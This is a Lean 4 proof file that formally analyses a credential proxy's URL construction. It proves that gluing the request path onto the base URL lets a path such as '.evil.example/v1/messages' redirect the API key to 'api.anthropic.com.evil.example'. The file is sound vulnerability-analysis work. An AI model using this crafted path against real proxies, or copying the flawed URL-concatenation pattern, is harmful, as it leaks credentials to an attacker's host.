import NanoClaw.Proxy.CredentialProxy
import Mathlib.Data.Bool.AllAny

/-! Where the proxied request goes. The target of the request is glued to the base URL as
text, so whatever stands before its first slash, question mark or hash becomes part of the
authority. -/
namespace NanoClaw.CredentialProxy
open PyText Url

/-- A host that ends nothing when read inside an authority: a name or an address without
colons and brackets, or an address in brackets. -/
def PlainHost (host : List Char) : Prop :=
  (host ≠ [] ∧ ∀ c ∈ host, c ≠ ':' ∧ c ≠ '[' ∧ c ≠ ']') ∨
    ∃ address, host = '[' :: address ++ [']'] ∧ '[' ∉ address ∧ ']' ∉ address

/-- A base URL `scheme://host[:port]`, with or without a trailing slash. -/
structure BaseUrl where
  scheme : List Char
  host : List Char
  port : Option (List Char)
  slash : Bool
  scheme_plain : ':' ∉ scheme
  host_plain : PlainHost host
  host_ends : ∀ c ∈ host, endsAuthority c = false ∧ c ≠ '%' ∧ c ≠ '@'
  port_digits : ∀ p, port = some p → ∀ c ∈ p, c.isDigit = true
  port_number : ∀ p, port = some p → (int? p).isSome = true

namespace BaseUrl

def portPart (b : BaseUrl) : List Char :=
  match b.port with
  | some p => ':' :: p
  | none => []

def authority (b : BaseUrl) : List Char := b.host ++ b.portPart

def text (b : BaseUrl) : String :=
  String.ofList (b.scheme ++ ':' :: '/' :: '/' :: b.authority ++ if b.slash then ['/'] else [])

end BaseUrl

/-- The part of a request target that the base's authority runs into, unquoted. -/
def glued (path : String) : List Char := unquote (authorityOf path.toList)

/-- The port meant by what follows the host: nothing, or a colon and a port. -/
def portOf (default : Int) : List Char → Option Int
  | [] => some default
  | ':' :: text => readPort default text
  | _ => none

/-- The glued part leaves the port as it is, so it is empty or spells the same port. -/
def Respells (b : BaseUrl) (q : List Char) : Prop :=
  portOf (defaultPort b.scheme) (b.portPart ++ q) = portOf (defaultPort b.scheme) b.portPart

/-- The text after the last colon is no port number, so `http.client` raises `InvalidURL`. -/
def BadPort (netloc : List Char) : Prop :=
  ∃ host text, netloc = host ++ ':' :: text ∧ ':' ∉ text ∧ ']' ∉ text ∧ text ≠ [] ∧ int? text = none

private theorem intChar_plain {c : Char} (h : IntChar c) : c ≠ ':' ∧ c ≠ ']' := by
  constructor
  · rintro rfl
    revert h
    unfold IntChar
    decide
  · rintro rfl
    revert h
    unfold IntChar
    decide

theorem readPort_plain {d n : Int} {text : List Char} (h : readPort d text = some n) :
    ':' ∉ text ∧ ']' ∉ text := by
  unfold readPort at h
  split at h
  · rename_i m hm
    exact ⟨fun hc => (intChar_plain (int?_chars hm _ hc)).1 rfl,
      fun hc => (intChar_plain (int?_chars hm _ hc)).2 rfl⟩
  · split at h
    · rename_i hnil
      simp [hnil]
    · cases h

/-- Nothing but the host itself has the host's name. -/
theorem stripBrackets_append {host u : List Char} (h : PlainHost host)
    (he : stripBrackets (host ++ u) = stripBrackets host) : u = [] := by
  rcases h with ⟨hne,hplain⟩ | ⟨address,rfl,_,_⟩
  · obtain ⟨c,cs,rfl⟩ := List.exists_cons_of_ne_nil hne
    have hc : c ≠ '[' := (hplain c (List.mem_cons_self ..)).2.1
    simpa [stripBrackets, hc] using he
  · have hs : stripBrackets ('[' :: address ++ [']']) = address := by
      rw [stripBrackets, if_pos ⟨rfl,List.getLast?_concat⟩]
      simp
    have hlen := congrArg List.length (he.trans hs)
    unfold stripBrackets at hlen
    split at hlen
    · simp only [List.length_dropLast, List.length_tail, List.length_append, List.length_cons,
        List.length_nil] at hlen
      exact List.length_eq_zero_iff.mp (by omega)
    · simp only [List.length_append, List.length_cons, List.length_nil] at hlen
      omega

/-- A colon inside a plain host stands before a closing bracket. -/
theorem plainHost_colon {before after : List Char} (h : PlainHost (before ++ ':' :: after)) :
    ']' ∈ after := by
  rcases h with ⟨_,hplain⟩ | ⟨address,he,_,_⟩
  · exact absurd rfl (hplain ':' (by simp)).1
  · have hlast : (before ++ ':' :: after).getLast? = some ']' := he ▸ List.getLast?_concat
    cases after with
    | nil => simp at hlast
    | cons c cs =>
      have hl : (c :: cs).getLast? = some ']' := by
        simpa [List.getLast?_append, List.getLast?_cons] using hlast
      exact List.mem_of_getLast? hl

theorem getHostPort_host (d : Int) {host : List Char} (h : PlainHost host) :
    getHostPort d host = some (stripBrackets host,d) := by
  unfold getHostPort
  by_cases hc : ':' ∈ host
  · obtain ⟨before,after,rfl,hafter⟩ := exists_last_occurrence hc
    rw [rpartition_append _ _ hafter]
    simp [plainHost_colon h]
  · rw [rpartition_of_not_mem hc]

theorem getHostPort_port (d : Int) (host : List Char) {text : List Char} (hc : ':' ∉ text)
    (hb : ']' ∉ text) : getHostPort d (host ++ ':' :: text) =
      (readPort d text).map (fun port => (stripBrackets host,port)) := by
  simp only [getHostPort, rpartition_append _ _ hc, if_neg hb]

/-- Text behind a plain host that leaves it as it is spells the port. -/
private theorem portOf_of_glued (d n : Int) {host : List Char} (h : PlainHost host) {s : List Char}
    (hget : getHostPort d (host ++ s) = some (stripBrackets host,n)) : portOf d s = some n := by
  have hwhole : some (stripBrackets (host ++ s),d) = some (stripBrackets host,n) →
      portOf d s = some n := by
    intro he
    obtain ⟨hs,hn⟩ := Prod.mk.inj (Option.some.inj he)
    rw [stripBrackets_append h hs, ← hn]
    rfl
  by_cases hc : ':' ∈ host ++ s
  · obtain ⟨before,after,heq,hafter⟩ := exists_last_occurrence hc
    by_cases hb : ']' ∈ after
    · apply hwhole
      rw [← hget, heq, getHostPort, rpartition_append _ _ hafter]
      simp [hb]
    · rw [heq, getHostPort_port d before hafter hb] at hget
      obtain ⟨m,hm,hpair⟩ := Option.map_eq_some_iff.mp hget
      obtain ⟨hhost,rfl⟩ := Prod.mk.inj hpair
      rcases List.append_eq_append_iff.mp heq with ⟨u,rfl,rfl⟩ | ⟨u,rfl,hu⟩
      · rw [stripBrackets_append h hhost]
        exact hm
      · cases u with
        | nil =>
          rw [List.nil_append] at hu
          rw [← hu]
          exact hm
        | cons c cs =>
          obtain ⟨rfl,rfl⟩ := List.cons.inj hu
          exact absurd (List.mem_append_left s (plainHost_colon h)) hb
  · apply hwhole
    rw [← hget, getHostPort, rpartition_of_not_mem hc]

private theorem glued_of_portOf (d n : Int) {host : List Char} (h : PlainHost host) {s : List Char}
    (hport : portOf d s = some n) : getHostPort d (host ++ s) = some (stripBrackets host,n) := by
  cases s with
  | nil =>
    rw [List.append_nil, getHostPort_host d h]
    exact congrArg (fun m => some (stripBrackets host,m)) (Option.some.inj hport)
  | cons c text =>
    have hc : c = ':' := by
      by_contra hc
      simp [portOf, hc] at hport
    subst hc
    obtain ⟨hcolon,hbracket⟩ := readPort_plain hport
    rw [getHostPort_port d host hcolon hbracket]
    have hread : readPort d text = some n := hport
    rw [hread]
    rfl

/-- Text glued to a plain host still leads to that host exactly when it spells a port. -/
theorem getHostPort_glued (d n : Int) {host : List Char} (h : PlainHost host) (s : List Char) :
    getHostPort d (host ++ s) = some (stripBrackets host,n) ↔ portOf d s = some n :=
  ⟨portOf_of_glued d n h,glued_of_portOf d n h⟩

theorem getHostPort_eq_none_iff (d : Int) (s : List Char) :
    getHostPort d s = none ↔ BadPort s := by
  have hread : ∀ text, readPort d text = none ↔ text ≠ [] ∧ int? text = none := by
    intro text
    unfold readPort
    split <;> simp_all
  constructor
  · intro hget
    by_cases hc : ':' ∈ s
    · obtain ⟨before,after,rfl,hafter⟩ := exists_last_occurrence hc
      by_cases hb : ']' ∈ after
      · simp [getHostPort, rpartition_append _ _ hafter, hb] at hget
      · rw [getHostPort_port d before hafter hb, Option.map_eq_none_iff, hread] at hget
        exact ⟨before,after,rfl,hafter,hb,hget.1,hget.2⟩
    · simp [getHostPort, rpartition_of_not_mem hc] at hget
  · rintro ⟨before,after,rfl,hafter,hb,hne,hint⟩
    rw [getHostPort_port d before hafter hb, Option.map_eq_none_iff, hread]
    exact ⟨hne,hint⟩

namespace BaseUrl

theorem mem_portPart {b : BaseUrl} {c : Char} (h : c ∈ b.portPart) : c = ':' ∨ c.isDigit = true := by
  unfold portPart at h
  split at h
  · rename_i p hp
    rcases List.mem_cons.mp h with rfl | h
    · exact Or.inl rfl
    · exact Or.inr (b.port_digits p hp c h)
  · cases h

theorem authority_chars (b : BaseUrl) : ∀ c ∈ b.authority, endsAuthority c = false ∧ c ≠ '%' := by
  intro c hc
  rcases List.mem_append.mp hc with hc | hc
  · exact ⟨(b.host_ends c hc).1,(b.host_ends c hc).2.1⟩
  · rcases mem_portPart hc with rfl | hd
    · exact ⟨by decide,by decide⟩
    · refine ⟨?_,?_⟩
      · simp only [endsAuthority, Bool.or_eq_false_iff, beq_eq_false_iff_ne]
        refine ⟨⟨?_,?_⟩,?_⟩ <;> (rintro rfl; revert hd; decide)
      · rintro rfl
        revert hd
        decide

theorem authority_ne_nil (b : BaseUrl) : b.authority ≠ [] := by
  have hhost : b.host ≠ [] := by
    rcases b.host_plain with ⟨hne,_⟩ | ⟨address,he,_⟩
    · exact hne
    · rw [he]
      exact List.append_ne_nil_of_right_ne_nil _ (List.cons_ne_nil _ _)
  exact List.append_ne_nil_of_left_ne_nil hhost _

/-- Stripping the trailing slash leaves scheme and authority. -/
theorem rstripSlash_text (b : BaseUrl) :
    (rstripSlash b.text).toList = b.scheme ++ ':' :: '/' :: '/' :: b.authority := by
  have hlast : ∀ h : b.scheme ++ ':' :: '/' :: '/' :: b.authority ≠ [],
      ¬((b.scheme ++ ':' :: '/' :: '/' :: b.authority).getLast h == '/') = true := by
    intro h
    have hmem : (b.scheme ++ ':' :: '/' :: '/' :: b.authority).getLast h ∈ b.authority := by
      have hsplit : b.scheme ++ ':' :: '/' :: '/' :: b.authority =
          (b.scheme ++ [':','/','/']) ++ b.authority := by simp
      simp only [hsplit, List.getLast_append_of_ne_nil _ b.authority_ne_nil]
      exact List.getLast_mem _
    intro hslash
    have := (b.authority_chars _ hmem).1
    rw [beq_iff_eq.mp hslash] at this
    revert this
    decide
  simp only [rstripSlash, text, rstripBy, String.toList_ofList]
  split
  · rw [List.rdropWhile_concat_pos _ _ _ (by decide)]
    exact List.rdropWhile_eq_self_iff.mpr hlast
  · rw [List.append_nil]
    exact List.rdropWhile_eq_self_iff.mpr hlast

theorem target_text (b : BaseUrl) :
    target b.text.toList = getHostPort (defaultPort b.scheme) b.authority := by
  have htail : authorityOf (if b.slash then ['/'] else []) = [] := by
    split <;> rfl
  have hurl : b.text.toList = b.scheme ++ ':' :: '/' :: '/' ::
      (b.authority ++ if b.slash then ['/'] else []) := by
    simp only [text, String.toList_ofList, List.cons_append, List.append_assoc]
  have hplain := unquote_append (fun hc => (b.authority_chars _ hc).2 rfl) []
  rw [List.append_nil, unquote_nil, List.append_nil] at hplain
  rw [hurl, target_eq b.scheme_plain,
    authorityOf_append (fun c hc => (b.authority_chars c hc).1), htail, List.append_nil, hplain]

/-- The base URL leads to its own host, at the port it gives. -/
theorem target_base (b : BaseUrl) :
    ∃ n, portOf (defaultPort b.scheme) b.portPart = some n ∧
      target b.text.toList = some (stripBrackets b.host,n) := by
  have hport : ∃ n, portOf (defaultPort b.scheme) b.portPart = some n := by
    unfold portPart
    split
    · rename_i p hp
      obtain ⟨n,hn⟩ := Option.isSome_iff_exists.mp (b.port_number p hp)
      exact ⟨n,by simp only [portOf, readPort, hn]⟩
    · exact ⟨_,rfl⟩
  obtain ⟨n,hn⟩ := hport
  exact ⟨n,hn,b.target_text.trans ((getHostPort_glued _ n b.host_plain b.portPart).mpr hn)⟩

end BaseUrl

/-- The settings with a given base URL. -/
def Settings.withBase (s : Settings) (b : BaseUrl) : Settings := { s with upstreamBase := b.text }

theorem target_upstream (s : Settings) (b : BaseUrl) (r : Incoming) :
    target (upstream (s.withBase b) r).toList =
      getHostPort (defaultPort b.scheme) (b.host ++ (b.portPart ++ glued r.path)) := by
  have hurl : (upstream (s.withBase b) r).toList =
      b.scheme ++ ':' :: '/' :: '/' :: (b.authority ++ r.path.toList) := by
    simp only [upstream, Settings.withBase, String.toList_append, b.rstripSlash_text,
      List.append_assoc, List.cons_append]
  rw [hurl, target_eq b.scheme_plain, authorityOf_append (fun c hc => (b.authority_chars c hc).1),
    unquote_append (fun hc => (b.authority_chars _ hc).2 rfl), BaseUrl.authority, List.append_assoc]
  rfl

/-- What `urllib` accepts: whether `urlopen` sends a request for a URL, or refuses it (for its
brackets, its control characters, an unknown scheme) before any connection is made. -/
structure Urllib where
  sends : String → Bool

/-- Every connection over which the request goes out is one to the host and port of the
base URL. -/
def SentToBase (lib : Urllib) (s : Settings) (b : BaseUrl) (r : Incoming) : Prop :=
  ∀ req, proxyRequest (s.withBase b) r = some req → lib.sends req.url = true →
    ∀ t, target req.url.toList = some t → target b.text.toList = some t

/-- The request goes to the base exactly when it is answered or refused before a connection
is made, or what its target adds to the authority spells the same port. -/
theorem sentToBase_iff (lib : Urllib) (s : Settings) (b : BaseUrl) (r : Incoming) :
    SentToBase lib s b r ↔
      contentLength r = none ∨ lib.sends (upstream (s.withBase b) r) = false ∨
        BadPort (b.authority ++ glued r.path) ∨ Respells b (glued r.path) := by
  obtain ⟨n,hn,hbase⟩ := b.target_base
  have hurl := target_upstream s b r
  constructor
  · intro hsent
    cases hlen : contentLength r with
    | none => exact Or.inl rfl
    | some cl =>
      refine Or.inr ?_
      have hsome : (proxyRequest (s.withBase b) r).isSome := by
        rw [proxyRequest_isSome, hlen]
        rfl
      obtain ⟨req,hreq⟩ := Option.isSome_iff_exists.mp hsome
      have hsent := hsent req hreq
      rw [proxyRequest_url hreq, hbase] at hsent
      cases hlib : lib.sends (upstream (s.withBase b) r) with
      | false => exact Or.inl rfl
      | true =>
        refine Or.inr ?_
        cases ht : target (upstream (s.withBase b) r).toList with
        | none =>
          rw [hurl, getHostPort_eq_none_iff, ← List.append_assoc] at ht
          exact Or.inl ht
        | some t =>
          have hsame := hsent hlib t ht
          rw [hurl, ← hsame, getHostPort_glued _ _ b.host_plain] at ht
          exact Or.inr (ht.trans hn.symm)
  · intro hcond req hreq hsend t ht
    rw [proxyRequest_url hreq] at hsend ht
    rcases hcond with hlen | hlib | hbad | hsame
    · rw [proxyRequest, hlen] at hreq
      cases hreq
    · rw [hlib] at hsend
      cases hsend
    · rw [BaseUrl.authority, List.append_assoc, ← getHostPort_eq_none_iff (defaultPort b.scheme)] at hbad
      rw [hurl, hbad] at ht
      cases ht
    · rw [hurl, (getHostPort_glued _ n b.host_plain _).mpr (hsame.trans hn)] at ht
      exact hbase.trans ht

/-- The default base URL. -/
def anthropicBase : BaseUrl where
  scheme := "https".toList
  host := "api.anthropic.com".toList
  port := none
  slash := false
  scheme_plain := by decide
  host_plain := Or.inl ⟨by decide,List.all_iff_forall_prop.mp (by decide)⟩
  host_ends := List.all_iff_forall_prop.mp (by decide)
  port_digits := by simp
  port_number := by simp

/-- A request whose target does not start with a slash. -/
def suffixedRequest : Incoming where
  command := "POST"
  path := ".evil.example/v1/messages"
  headers := []
  rfile := []
  path_ne := by decide
  path_solid := List.all_iff_forall_prop.mp (by decide)

/-- The credential can be sent to another host. -/
theorem credential_leaves_base :
    ¬∀ (lib : Urllib) (s : Settings) (b : BaseUrl) (r : Incoming), SentToBase lib s b r := by
  intro h
  have hsent := h ⟨fun _ => true⟩ ⟨some "sk-key",none,""⟩ anthropicBase suffixedRequest
  have hlen : (contentLength suffixedRequest).isSome := by decide
  rw [← proxyRequest_isSome (Settings.withBase ⟨some "sk-key",none,""⟩ anthropicBase)] at hlen
  obtain ⟨req,hreq⟩ := Option.isSome_iff_exists.mp hlen
  have hother : target req.url.toList = some ("api.anthropic.com.evil.example".toList,443) := by
    rw [proxyRequest_url hreq]
    decide +kernel
  have hsame := hsent req hreq rfl _ hother
  revert hsame
  decide +kernel

end NanoClaw.CredentialProxy
